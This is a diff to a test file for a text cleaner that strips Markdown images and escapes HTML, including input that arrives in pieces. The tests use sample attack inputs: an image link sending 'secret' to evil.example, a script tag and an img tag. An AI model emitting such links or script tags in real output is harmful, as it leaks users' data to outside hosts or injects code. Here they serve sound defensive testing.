@@ -40,8 +40,24 @@ describe('createTextCleaner', () => {
     expect(clean(['It runs [1].'], 0)).to.equal('It runs [1].');
   });
 
+  it('takes images out and keeps their descriptions, also when they come in pieces', () => {
+    expect(clean(['See ![the plan](https://evil.example/?q=secret) here'])).to.equal('See the plan here');
+    expect(clean(['See !', '[the pl', 'an](https', '://evil.example/x) here'])).to.equal('See the plan here');
+    expect(clean(['![x][ref] and !'])).to.equal('x and !');
+    expect(clean(['![![a](b)](https://evil.example/)'])).to.not.include('![');
+  });
+
+  it('escapes what could be HTML, and leaves comparisons alone', () => {
+    expect(clean(['<script>alert(1)</script> 1 < 2'])).to.equal('\\<script>alert(1)\\</script> 1 < 2');
+    expect(clean(['a <', 'img src=x>'])).to.equal('a \\<img src=x>');
+  });
+
+  it('keeps images and HTML of code', () => {
+    expect(clean(['`<b>` and ```\n![a](b)\n<p>\n```'])).to.equal('`<b>` and ```\n![a](b)\n<p>\n```');
+  });
+
   it('gives the same text however it is cut into pieces', () => {
-    const alphabet = fc.constantFrom('a', ' ', '[', ']', '1', '2', ',', '.', '`', '😀', '\n', '\u0000');
+    const alphabet = fc.constantFrom(...'a []12,.`!()<\n\u0000', '😀');
     const text = fc.array(alphabet, { maxLength: 40 }).map((parts) => parts.join(''));
     fc.assert(
       fc.property(text, fc.array(fc.nat({ max: 60 })), (whole, cuts) => {
